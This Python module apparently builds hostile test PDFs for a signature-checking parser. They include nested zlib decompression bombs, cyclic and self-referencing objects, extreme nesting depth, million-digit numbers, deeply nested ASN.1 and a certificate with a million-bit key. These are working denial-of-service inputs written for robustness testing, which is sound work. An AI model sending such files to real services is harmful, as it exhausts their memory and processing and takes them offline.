"""Files made to hurt whoever reads them (恶意文件): bombs, crowds, loops, depths; each small enough to be handed in."""

import zlib
from collections.abc import Callable, Sequence


def document(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of ``objects`` numbered from 1, the first of which is the catalogue, with a correct table."""
    written, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(written))
        written += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    written += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    written += b"trailer<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, table)
    return bytes(written)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object with ``data`` as it is."""
    return b"<</Length %d%s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def signed_field(signature: bytes) -> list[bytes]:
    """Catalogue, pages and one field with ``signature`` as its value, object 4."""
    return [
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[3 0 R]/SigFlags 3>>>>",
        b"<</Type/Pages/Kids[]/Count 0>>",
        b"<</FT/Sig/T(ReportSignature)/V 4 0 R>>",
        signature,
    ]


def a_crowd_of_fields() -> bytes:
    fields = b" ".join(b"%d 0 R" % number for number in range(3, 10_003))
    crowd = [b"<</T(%d)/FT/Tx>>" % number for number in range(10_000)]
    return document([b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[%s]>>>>" % fields, b"<<>>", *crowd])


def a_ring_of_fields() -> bytes:
    ring = [b"<</T(a)/Kids[%d 0 R]>>" % (3 + (number + 1) % 60_000) for number in range(60_000)]
    return document([b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[3 0 R]>>>>", b"<<>>", *ring])


def a_tree_of_fields_that_doubles() -> bytes:
    tree = [b"<</T(a)/Kids[%d 0 R %d 0 R]>>" % (number + 4, number + 4) for number in range(60)]
    return document([b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[3 0 R]>>>>", b"<<>>", *tree, b"<</T(z)/FT/Sig>>"])


def endless_references() -> bytes:
    return document([b"2 0 R", b"3 0 R", b"2 0 R"])


def a_reference_to_itself() -> bytes:
    return document([b"<</Type/Catalog/AcroForm 2 0 R/AF 2 0 R/DSS 2 0 R>>", b"2 0 R"])


def a_table_that_comes_before_itself() -> bytes:
    plain = document([b"<</Type/Catalog>>"])
    return document([b"<</Type/Catalog>>"], b"/Prev %d" % plain.rindex(b"xref\n0"))


def a_length_that_needs_itself() -> bytes:
    return document([b"<</Type/Catalog/AF 2 0 R>>", b"<</Length 2 0 R>>\nstream\nx\nendstream"])


def depth(count: int = 2_000_000) -> bytes:
    return document([b"<</Type/Catalog/AcroForm " + b"[" * count + b">>"])


def depth_of_dictionaries() -> bytes:
    return document([b"<</Type/Catalog/AcroForm " + b"<</Fields" * 400_000 + b">>"])


def a_number_of_a_million_digits() -> bytes:
    return document([b"<</Type/Catalog/AcroForm<</Fields " + b"9" * 1_000_000 + b">>>>"])


def a_bomb_of_objects() -> bytes:
    """An object stream of 20 kB that unpacks to 20 MB, wrapped so that it unpacks to 20 GB."""
    bomb = zlib.compress(zlib.compress(bytes(20_000_000), 9) * 1000, 9)
    entries = b"/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]"
    return _with_object_stream(stream(bomb, entries))


def a_bomb_in_the_attachment() -> bytes:
    """Not signed yet: whoever signs it himself gets his attachment read."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>"
    catalogue = b"<</Type/Catalog/Pages 2 0 R/AF[<</UF(report.json)/EF<</F 4 0 R>>>>]>>"
    bomb = stream(_flat_bomb(200_000_000), b"/Filter/FlateDecode")
    return document([catalogue, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, bomb])


def a_million_pieces_of_the_file() -> bytes:
    pieces = b"[" + b"0 19000000 " * 200_000 + b"]"
    return document([*signed_field(_signature(b"\x30\x00", pieces)), stream(bytes(15_000_000))])


def ten_thousand_signatures() -> bytes:
    fields = b" ".join(b"%d 0 R" % number for number in range(3, 10_003))
    head = [b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[%s]/SigFlags 3>>>>" % fields, b"<<>>"]
    return document([*head, *[b"<</FT/Sig/T(s)/V<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>>>"] * 10_000])


def ten_million_names() -> bytes:
    return document([b"<</Type/Catalog/AcroForm<</Fields[" + b"/A" * 9_900_000 + b"]>>>>"])


def deep_asn1() -> bytes:
    """A signature that is nothing but 200,000 sequences in one another."""
    nested = b"\x30\x80" * 200_000
    return document(signed_field(_signature(nested, b"[0 10 20 30]")))


def a_certificate_with_a_key_of_a_million_bits() -> bytes:
    """Whoever multiplies with such a number sits there for long."""
    modulus = int.from_bytes(b"\xff" * 125_000, "big")
    number = _der(0x02, b"\x00" + modulus.to_bytes(125_000, "big"))
    public = _der(0x30, number + number)
    algorithm = _der(0x30, bytes.fromhex("06092a864886f70d0101010500"))
    name = _der(0x30, _der(0x31, _der(0x30, bytes.fromhex("0603550403") + _der(0x0C, b"x"))))
    dates = _der(0x30, _der(0x17, b"260101000000Z") + _der(0x17, b"360101000000Z"))
    signing = _der(0x30, bytes.fromhex("06092a864886f70d01010b0500"))
    info = _der(0x30, algorithm + _der(0x03, b"\x00" + public))
    body = _der(0x30, _der(0xA0, b"\x02\x01\x02") + b"\x02\x01\x01" + signing + name + dates + name + info)
    value = b"\xfe" * 125_000
    certificate = _der(0x30, body + signing + _der(0x03, b"\x00" + value))
    digest = _der(0x30, bytes.fromhex("0609608648016503040201"))
    content_type = _der(
        0x30, bytes.fromhex("06092a864886f70d010903") + _der(0x31, bytes.fromhex("06092a864886f70d010701"))
    )
    message = _der(0x30, bytes.fromhex("06092a864886f70d010904") + _der(0x31, _der(0x04, bytes(32))))
    signer = _der(
        0x30,
        b"\x02\x01\x01"
        + _der(0x30, name + b"\x02\x01\x01")
        + digest
        + _der(0xA0, content_type + message)
        + signing
        + _der(0x04, value),
    )
    signed = _der(
        0x30,
        b"\x02\x01\x01"
        + _der(0x31, digest)
        + _der(0x30, bytes.fromhex("06092a864886f70d010701"))
        + _der(0xA0, certificate)
        + _der(0x31, signer),
    )
    content = _der(0x30, bytes.fromhex("06092a864886f70d010702") + _der(0xA0, signed))
    return document(signed_field(_signature(content, b"[0 10 20 30]")))


def a_store_of_a_thousand_lists() -> bytes:
    catalogue, *others = signed_field(_signature(b"\x30\x00", b"[0 10 20 30]"))
    lists = b" ".join(b"%d 0 R" % number for number in range(5, 1005))
    crowd = [stream(b"\x30\x82" + bytes(10_000))] * 1000
    return document([catalogue[:-2] + b"/DSS<</CRLs[%s]>>>>" % lists, *others, *crowd])


def twenty_megabytes_of(piece: bytes) -> bytes:
    return (b"%PDF-1.7\n" + piece * (20_000_000 // len(piece)))[:20_000_000]


def _signature(contents: bytes, byte_range: bytes) -> bytes:
    head = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange "
    return head + byte_range + b"/Contents<" + contents.hex().encode() + b">>>"


def _flat_bomb(size: int) -> bytes:
    packer, piece = zlib.compressobj(9), bytes(1_000_000)
    return b"".join(packer.compress(piece) for _ in range(size // len(piece))) + packer.flush()


def _with_object_stream(body: bytes) -> bytes:
    """The catalogue, object 1, lies in ``body``, object 2; the table is a stream, object 3."""
    written = b"%PDF-1.7\n"
    second = len(written)
    written += b"2 0 obj\n" + body + b"\nendobj\n"
    third = len(written)
    places = ((0, 0), (2, 2), (1, second), (1, third))
    rows = b"".join(bytes([kind]) + place.to_bytes(4, "big") + b"\x00" for kind, place in places)
    table = stream(rows, b"/Type/XRef/W[1 4 1]/Size 4/Root 1 0 R")
    return written + b"3 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % third


def _der(tag: int, content: bytes) -> bytes:
    size = len(content)
    if size < 0x80:
        return bytes([tag, size]) + content
    length = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(length)]) + length + content


HOSTILE: dict[str, Callable[[], bytes]] = {
    maker.__name__: maker
    for maker in (
        a_crowd_of_fields,
        a_ring_of_fields,
        a_tree_of_fields_that_doubles,
        endless_references,
        a_reference_to_itself,
        a_table_that_comes_before_itself,
        a_length_that_needs_itself,
        depth,
        depth_of_dictionaries,
        a_number_of_a_million_digits,
        a_bomb_of_objects,
        ten_million_names,
        a_million_pieces_of_the_file,
        ten_thousand_signatures,
        deep_asn1,
        a_certificate_with_a_key_of_a_million_bits,
        a_store_of_a_thousand_lists,
    )
} | {
    "brackets": lambda: twenty_megabytes_of(b"["),
    "objects": lambda: twenty_megabytes_of(b"1 0 obj\n<<>>\nendobj\n"),
    "ends": lambda: twenty_megabytes_of(b"startxref\n9\n%%EOF\n"),
    "nothing": lambda: twenty_megabytes_of(b"\x00"),
}
